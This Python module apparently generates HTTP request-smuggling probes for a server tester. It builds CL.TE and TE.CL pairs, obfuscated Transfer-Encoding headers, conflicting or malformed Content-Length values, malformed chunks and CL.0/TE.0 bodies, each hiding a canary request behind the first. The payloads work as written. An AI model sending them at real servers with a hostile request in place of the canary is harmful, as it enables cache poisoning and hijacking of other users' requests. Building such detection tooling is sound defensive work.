"""Requests whose end two readers may see in different places. Pure.

Each is written so that by one reading a second request, the canary, stands behind it. A sound
server sees one request and answers once, or refuses it and reads no further.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Opening:
    """The beginning of a request: its first line and its fields, without any that frame a body."""

    lines: tuple[bytes, ...]

    @classmethod
    def of(cls, spelled: bytes) -> Opening:
        """From a request as it would be sent."""
        head = spelled.partition(b"\r\n\r\n")[0].split(b"\r\n")
        framing = (b"content-length:", b"transfer-encoding:")
        return cls(tuple(line for line in head if not line.lower().startswith(framing)))

    def framed(self, *fields: bytes, body: bytes) -> bytes:
        """The request with these fields, as they are written, and this body."""
        return b"\r\n".join((*self.lines, *fields)) + b"\r\n\r\n" + body


Payload = tuple[str, bytes]
"""What is tried, in words that stay the same, and the bytes."""

DISGUISES: tuple[tuple[str, bytes], ...] = (
    ("unknown coding", b"Transfer-Encoding: xchunked"),
    ("coding before identity", b"Transfer-Encoding: chunked, identity"),
    ("parameter", b"Transfer-Encoding: chunked;q=1"),
    ("quotes", b'Transfer-Encoding: "chunked"'),
    ("vertical tab", b"Transfer-Encoding: \x0bchunked"),
    ("NUL", b"Transfer-Encoding: chunked\x00"),
    ("space before the colon", b"Transfer-Encoding : chunked"),
    ("folded line", b"Transfer-Encoding:\r\n chunked"),
    ("bare line feed", b"X-Audit: a\nTransfer-Encoding: chunked"),
    ("two fields", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
    ("underscore", b"Transfer_Encoding: chunked"),
)
"""Ways to write `Transfer-Encoding: chunked` that one reader takes for it, and another does not."""

BY_CODING = ("CL.TE", "length behind")
"""How the names end of what is read as two where the coding is read, as the standard has it."""

_CHUNKS = b"0\r\n\r\n"


def beside(opening: Opening, canary: bytes, coding: bytes) -> Iterator[bytes]:
    """A length and a coding together: the length ends behind the canary, and then before it."""
    behind = _CHUNKS + canary
    yield opening.framed(coding, b"Content-Length: %d" % len(behind), body=behind)
    size, whole = chunked(canary)
    yield opening.framed(b"Content-Length: %d" % size, coding, body=whole)


def chunked(canary: bytes) -> tuple[int, bytes]:
    """The canary as a chunk: the length of the line before it, and the whole body.

    Read as a request the canary takes in what stands behind it, which would else be a mistake
    that ends the connection before anything is answered.
    """
    tail = b"\r\n" + _CHUNKS
    hungry = canary[:-2] + b"Content-Length: %d\r\n\r\n" % len(tail)
    size = b"%x\r\n" % len(hungry)
    return len(size), size + hungry + tail


def length_and_coding(opening: Opening, canary: bytes) -> list[Payload]:
    """Both ways to frame a body in one request."""
    both = beside(opening, canary, b"Transfer-Encoding: chunked")
    return list(zip(("CL.TE", "TE.CL"), both, strict=True))


def disguised(opening: Opening, canary: bytes) -> list[Payload]:
    """A length beside a coding that not every reader knows again.

    `Transfer_Encoding` is another field, so the length alone counts: the canary is kept within it.
    """
    found = []
    for name, coding in DISGUISES:
        first, second = beside(opening, canary, coding)
        found.append((f"Transfer-Encoding with {name}, length behind", first))
        if not coding.startswith(b"Transfer_"):
            found.append((f"Transfer-Encoding with {name}, length before", second))
    return found


def disputed_lengths(opening: Opening, canary: bytes) -> list[Payload]:
    """Two lengths that differ, and lengths that are no number to everybody."""
    body = b"{}" + canary
    short, long = b"2", b"%d" % len(body)
    tries = {
        "shorter first": b"Content-Length: %b\r\nContent-Length: %b" % (short, long),
        "longer first": b"Content-Length: %b\r\nContent-Length: %b" % (long, short),
        "as a list": b"Content-Length: %b, %b" % (short, long),
        "with a sign": b"Content-Length: +%b" % short,
        "hexadecimal": b"Content-Length: 0x2",
        "with an underscore": b"Content-Length: 0_2",
        "with a fraction": b"Content-Length: 2.0",
        "with words behind it": b"Content-Length: 2 %b" % long,
        "space before the colon": b"Content-Length : %b" % long,
        "on a folded line": b"Content-Length:\r\n %b" % long,
        "with a zero byte": b"Content-Length: %b\x00" % long,
    }
    return [(f"Content-Length {n}", opening.framed(f, body=body)) for n, f in tries.items()]


def loose_chunks(opening: Opening, canary: bytes) -> list[Payload]:
    """Last chunks whose size is no hexadecimal number, or whose lines end otherwise."""
    tries = {
        "0x0": b"0x0\r\n\r\n",
        "+0": b"+0\r\n\r\n",
        "-0": b"-0\r\n\r\n",
        "0_0": b"0_0\r\n\r\n",
        "beyond 64 bits": b"10000000000000000\r\n\r\n",
        "line feeds": b"0\n\n",
        "carriage returns": b"0\r\r",
    }
    coding = b"Transfer-Encoding: chunked"
    return [(f"chunk of size {n}", opening.framed(coding, body=c + canary))
            for n, c in tries.items()]  # fmt: skip


def bodies_of_reads(opening: Opening, canary: bytes) -> list[Payload]:
    """A body where none is expected, which holds the canary."""
    _, chunk = chunked(canary)
    return [
        ("CL.0", opening.framed(b"Content-Length: %d" % len(canary), body=canary)),
        ("TE.0", opening.framed(b"Transfer-Encoding: chunked", body=chunk)),
    ]
